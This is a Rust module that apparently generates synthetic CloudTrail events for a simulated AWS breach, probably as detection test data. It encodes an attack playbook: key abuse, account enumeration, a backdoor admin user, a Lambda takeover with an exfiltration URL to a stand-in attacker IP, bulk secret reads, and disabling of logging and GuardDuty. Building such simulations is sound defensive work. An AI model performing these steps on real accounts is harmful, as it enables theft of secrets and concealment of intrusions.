//! The incident story: a leaked key, a backdoor user, a Lambda takeover, and the tracks covered.

use serde_json::json;

use super::event::{CONSOLE, Event, Identity, Rng, stable_id, time_text};

pub(super) const ATTACKER_IP: &str = "203.0.113.77";
pub(super) const ATTACKER_UA: &str =
    "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off";

/// The incident: events in (account, region) order of delivery, each as (time, account, region, JSON).
pub(super) fn incident(rng: &mut Rng, account: &str, start: i64) -> Vec<(i64, String)> {
    let region = "us-east-1";
    let user = Identity::user(account, "ci-deploy", "AKIAQXLEAKEDKEY7EXMP");
    let session_key = "ASIAQXATTACKERSESS01";
    let session = Identity::role_session(
        account,
        "lambda-deployer",
        "deploy-7731",
        session_key,
        &time_text(start + 900),
        false,
    );
    let fn_name = "payments-processor";
    let fn_arn = format!("arn:aws:lambda:{region}:{account}:function:{fn_name}");
    let mut out = Vec::new();
    let mut t = start;
    let mut emit = |rng: &mut Rng, ev: Event| {
        let mut s = String::new();
        ev.write(rng, &mut s);
        out.push((ev.time, s));
    };
    let api = |time, identity, source, name, req| {
        attacker_call(time, identity, source, name, req, account)
    };
    macro_rules! call {
        ($id:expr, $src:expr, $name:expr, $req:expr) => {{
            t += 7 + rng.below(40) as i64;
            api(t, $id, $src, $name, $req)
        }};
    }
    // 1. The leaked key is tried, then the account enumerated.
    let e = call!(&user, "sts.amazonaws.com", "GetCallerIdentity", None);
    emit(rng, e);
    for (src, name, denied) in [
        ("iam.amazonaws.com", "ListUsers", false),
        ("iam.amazonaws.com", "ListRoles", false),
        ("iam.amazonaws.com", "GetAccountAuthorizationDetails", true),
        ("iam.amazonaws.com", "ListAttachedUserPolicies", false),
        ("organizations.amazonaws.com", "DescribeOrganization", true),
        ("lambda.amazonaws.com", "ListFunctions20150331", false),
        ("secretsmanager.amazonaws.com", "ListSecrets", false),
        ("guardduty.amazonaws.com", "ListDetectors", true),
        ("s3.amazonaws.com", "ListBuckets", false),
        ("ec2.amazonaws.com", "DescribeInstances", false),
        ("kms.amazonaws.com", "ListKeys", true),
        ("cloudtrail.amazonaws.com", "DescribeTrails", false),
        ("rds.amazonaws.com", "DescribeDBInstances", true),
        ("dynamodb.amazonaws.com", "ListTables", true),
    ] {
        let mut e = call!(&user, src, name, Some("{}".into()));
        if denied {
            e.error = Some((
                "AccessDenied",
                format!(
                    "User: arn:aws:iam::{account}:user/ci-deploy is not authorized to perform: {}:{name}",
                    src.split('.').next().unwrap_or(src)
                ),
            ));
            e.response = None;
        }
        emit(rng, e);
    }
    // 2. A backdoor user with admin rights, a key and a console password.
    let backdoor = "svc-backup";
    let mut e = call!(
        &user,
        "iam.amazonaws.com",
        "CreateUser",
        Some(json!({"userName": backdoor}).to_string())
    );
    e.response = Some(json!({"user": {"path": "/", "userName": backdoor, "userId": "AIDAQXBACKDOORUSER01", "arn": format!("arn:aws:iam::{account}:user/{backdoor}"), "createDate": "Mar 5, 2024, 2:20:00 AM"}}).to_string());
    emit(rng, e);
    let e = call!(&user, "iam.amazonaws.com", "AttachUserPolicy", Some(json!({"userName": backdoor, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}).to_string()));
    emit(rng, e);
    let mut e = call!(
        &user,
        "iam.amazonaws.com",
        "CreateAccessKey",
        Some(json!({"userName": backdoor}).to_string())
    );
    e.response = Some(json!({"accessKey": {"userName": backdoor, "accessKeyId": "AKIAQXBACKDOORKEY001", "status": "Active", "createDate": "Mar 5, 2024, 2:21:00 AM"}}).to_string());
    emit(rng, e);
    let e = call!(
        &user,
        "iam.amazonaws.com",
        "CreateLoginProfile",
        Some(json!({"userName": backdoor, "passwordResetRequired": false}).to_string())
    );
    emit(rng, e);
    // 3. The deploy role is assumed: a temporary key for the Lambda takeover.
    let mut e = call!(&user, "sts.amazonaws.com", "AssumeRole", Some(json!({"roleArn": format!("arn:aws:iam::{account}:role/lambda-deployer"), "roleSessionName": "deploy-7731", "durationSeconds": 3600}).to_string()));
    e.response = Some(json!({"credentials": {"accessKeyId": session_key, "sessionToken": rng.alnum(64, false), "expiration": "Mar 5, 2024, 3:25:00 AM"}, "assumedRoleUser": {"assumedRoleId": format!("AROA{}:deploy-7731", stable_id("lambda-deployer", 17)), "arn": format!("arn:aws:sts::{account}:assumed-role/lambda-deployer/deploy-7731")}}).to_string());
    e.resources = vec![(
        format!("arn:aws:iam::{account}:role/lambda-deployer"),
        account.to_owned(),
        "AWS::IAM::Role",
    )];
    emit(rng, e);
    // 4. The function is downloaded, replaced, opened to the world.
    let fr = json!({"functionName": fn_name}).to_string();
    for (name, req) in [
        ("GetFunction20150331v2", fr.clone()),
        ("UpdateFunctionCode20150331v2", json!({"functionName": fn_name, "publish": true, "zipFile": "<sensitiveDataRemoved>"}).to_string()),
        ("UpdateFunctionConfiguration20150331v2", json!({"functionName": fn_name, "environment": {"variables": {"EXFIL_URL": "https://203.0.113.77/c"}}, "layers": ["arn:aws:lambda:us-east-1:999988887777:layer:telemetry-agent:3"]}).to_string()),
        ("AddPermission20150331v2", json!({"functionName": fn_name, "statementId": "public-invoke", "action": "lambda:InvokeFunction", "principal": "*"}).to_string()),
        ("CreateFunctionUrlConfig20211031", json!({"functionName": fn_name, "authType": "NONE"}).to_string()),
    ] {
        let mut e = call!(&session, "lambda.amazonaws.com", name, Some(req));
        e.resources = vec![(fn_arn.clone(), account.to_owned(), "AWS::Lambda::Function")];
        emit(rng, e);
    }
    // 5. The backdoored function is invoked far above its baseline.
    for _ in 0..300 {
        t += 1 + rng.below(3) as i64;
        let mut e = api(
            t,
            &session,
            "lambda.amazonaws.com",
            "Invoke",
            Some(json!({"functionName": fn_arn, "invocationType": "RequestResponse"}).to_string()),
        );
        e.read_only = Some(false);
        e.management = false;
        e.category = "Data";
        e.additional = Some(json!({"functionVersion": format!("{fn_arn}:$LATEST")}).to_string());
        e.resources = vec![(fn_arn.clone(), account.to_owned(), "AWS::Lambda::Function")];
        e.tls_host = None;
        emit(rng, e);
    }
    // 6. Secrets are read in bulk.
    for s in [
        "prod/payments/db",
        "prod/payments/stripe",
        "prod/orders/db",
        "prod/reporting/warehouse",
        "prod/ci/github-token",
        "prod/admin/break-glass",
    ] {
        let e = call!(
            &session,
            "secretsmanager.amazonaws.com",
            "GetSecretValue",
            Some(json!({"secretId": s}).to_string())
        );
        emit(rng, e);
    }
    // 7. Tracks are covered.
    let e = call!(
        &session,
        "logs.amazonaws.com",
        "DeleteLogGroup",
        Some(json!({"logGroupName": format!("/aws/lambda/{fn_name}")}).to_string())
    );
    emit(rng, e);
    let e = call!(
        &user,
        "guardduty.amazonaws.com",
        "DeleteDetector",
        Some(json!({"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}).to_string())
    );
    emit(rng, e);
    let e = call!(&user, "cloudtrail.amazonaws.com", "StopLogging", Some(json!({"name": format!("arn:aws:cloudtrail:us-east-1:{account}:trail/management-events")}).to_string()));
    emit(rng, e);
    // 8. The backdoor user signs in to the console, without MFA.
    t += 600;
    let bd = Identity::user(account, backdoor, "");
    let mut e = api(t, &bd, "signin.amazonaws.com", "ConsoleLogin", None);
    e.agent = CONSOLE;
    e.event_type = "AwsConsoleSignIn";
    e.read_only = Some(false);
    e.response = Some(json!({"ConsoleLogin": "Success"}).to_string());
    e.additional = Some(json!({"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"}).to_string());
    e.tls_host = Some("signin.aws.amazon.com".into());
    emit(rng, e);
    // And root, which nobody should use, lists the users.
    let root = Identity::root(account);
    let mut e = api(
        t + 300,
        &root,
        "iam.amazonaws.com",
        "ListUsers",
        Some("{}".into()),
    );
    e.agent = CONSOLE;
    e.console = true;
    emit(rng, e);
    out
}

/// An API call made from the attacker's machine.
pub(super) fn attacker_call<'a>(
    time: i64,
    identity: &'a Identity,
    source: &'a str,
    name: &'a str,
    request: Option<String>,
    account: &'a str,
) -> Event<'a> {
    Event {
        time,
        source,
        name,
        region: "us-east-1",
        ip: ATTACKER_IP,
        agent: ATTACKER_UA,
        identity,
        request,
        response: None,
        additional: None,
        error: None,
        read_only: Some(
            name.starts_with("Get") || name.starts_with("List") || name.starts_with("Describe"),
        ),
        event_type: "AwsApiCall",
        management: true,
        category: "Management",
        resources: Vec::new(),
        account,
        tls_host: Some(source.to_owned()),
        console: false,
    }
}
